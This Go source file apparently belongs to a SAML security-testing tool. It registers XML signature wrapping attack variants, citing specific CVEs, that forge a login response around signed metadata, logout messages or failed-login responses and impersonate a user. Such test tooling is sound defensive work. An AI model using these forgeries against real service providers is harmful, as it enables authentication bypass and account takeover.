package forge

import (
	"fmt"

	"github.com/beevik/etree"
)

// Wrapping with something else that the identity provider signed: its metadata, a
// message of logout, a sign-in that failed. Anybody can come by one, and none of them
// says that anybody signed in.
func init() {
	fragile := "PortSwigger, The Fragile Lock (2025)"
	for _, donor := range []struct {
		attack Attack
		made   func(w wrapping) *etree.Element
	}{
		{Attack{
			Row: "XSW-21", Name: "metadata", Sources: []string{"CVE-2024-6800", fragile},
			Summary: "is forged around the identity provider's signed metadata",
		}, func(w wrapping) *etree.Element {
			el := etree.NewElement("md:EntityDescriptor")
			el.CreateAttr("xmlns:md", "urn:oasis:names:tc:SAML:2.0:metadata")
			el.CreateAttr("ID", w.freshID("9"))
			el.CreateAttr("entityID", w.donor.Identity.EntityID)
			return el
		}},
		{Attack{
			Row: "XSW-22", Name: "logout-request", Sources: []string{"CVE-2024-6800", fragile},
			Summary: "is forged around a signed LogoutRequest",
		}, func(w wrapping) *etree.Element {
			el := w.protocolElement("LogoutRequest")
			name := samlElement("NameID")
			name.SetText(w.donor.Claims.NameID)
			el.AddChild(name)
			return el
		}},
		{Attack{
			Row: "XSW-22", Name: "logout-response", Sources: []string{"CVE-2024-6800", fragile},
			Summary: "is forged around a signed LogoutResponse",
		}, func(w wrapping) *etree.Element { return w.answer("LogoutResponse", "Success") }},
		{Attack{
			Row: "XSW-22", Name: "artifact-response", Sources: []string{"CVE-2024-6800", fragile},
			Summary: "is forged around a signed ArtifactResponse",
		}, func(w wrapping) *etree.Element { return w.answer("ArtifactResponse", "Success") }},
		{Attack{
			Row: "XSW-23", Name: "failed-response", Sources: []string{"CVE-2022-39299", fragile},
			Summary: "is forged around a signed response that says that the sign-in failed",
		}, func(w wrapping) *etree.Element { return w.answer("Response", "AuthnFailed") }},
	} {
		for _, place := range places {
			a := donor.attack
			a.Name, a.Rule = "wrapped-"+donor.attack.Name+"-in-"+place.name, ruleOf(a.Row)
			a.Modes = OnAssertion
			a.Summary += ", which stands in its " + place.called
			a.document = arranged(false, func(w wrapping) error { return w.forgeAround(donor.made(w), place.put) })
			register("xsw", a)
		}
	}
}

// ruleOf is the requirement of the rows about one kind of donor.
func ruleOf(row string) string {
	return map[string]string{"XSW-21": "signed-metadata", "XSW-22": "signed-logout", "XSW-23": "signed-failure"}[row]
}

// places are where the signed thing is put in a response that is otherwise forged.
var places = []struct {
	name, called string
	put          func(w wrapping, signed *etree.Element) error
}{
	{"object", "signature", func(w wrapping, signed *etree.Element) error {
		signature := signed.SelectElement("Signature")
		signed.RemoveChild(signature)
		inObject(signature, signed)
		issuer, err := find(w.assertion, "Issuer")
		if err == nil {
			behind(issuer, signature)
		}
		return err
	}},
	{"status", "status", func(w wrapping, signed *etree.Element) error {
		status, err := find(w.response, "Status")
		if err == nil {
			status.CreateElement("saml2p:StatusDetail").AddChild(signed)
		}
		return err
	}},
	{"extensions", "extensions", func(w wrapping, signed *etree.Element) error {
		place, err := extensions(w.response)
		if err == nil {
			place.AddChild(signed)
		}
		return err
	}},
}

// forgeAround forges the response and gives it the signed thing in place of its one
// signature, or beside two.
func (w wrapping) forgeAround(thing *etree.Element, put func(wrapping, *etree.Element) error) error {
	signer := w.donor.Identity.Signer()
	if err := signer.Sign(thing); err != nil {
		return fmt.Errorf("signing the %s: %w", thing.Tag, err)
	}
	if w.response.SelectElement("Signature") == nil { // where both are wanted, both stay: they no longer hold
		if err := unsign(w.assertion); err != nil {
			return err
		}
	}
	if err := impersonate(w.donor, w.assertion); err != nil {
		return err
	}
	return put(w, thing)
}

// freshID is an ID that no other element has.
func (w wrapping) freshID(end string) string { return w.assertion.SelectAttrValue("ID", "") + end }

// protocolElement is a message of the identity provider's to the product.
func (w wrapping) protocolElement(tag string) *etree.Element {
	el := etree.NewElement("saml2p:" + tag)
	el.CreateAttr("xmlns:saml2p", nsProtocol)
	el.CreateAttr("Destination", w.donor.Claims.Destination)
	el.CreateAttr("ID", w.freshID("9"))
	el.CreateAttr("IssueInstant", moment(w.donor.Claims.Now))
	el.CreateAttr("Version", "2.0")
	issuer := samlElement("Issuer")
	issuer.SetText(w.donor.Identity.EntityID)
	el.AddChild(issuer)
	return el
}

// answer is a message with a status.
func (w wrapping) answer(tag, status string) *etree.Element {
	el := w.protocolElement(tag)
	if to := w.donor.Claims.InResponseTo; to != "" {
		el.CreateAttr("InResponseTo", to)
	}
	code := el.CreateElement("saml2p:Status").CreateElement("saml2p:StatusCode")
	code.CreateAttr("Value", "urn:oasis:names:tc:SAML:2.0:status:"+status)
	return el
}
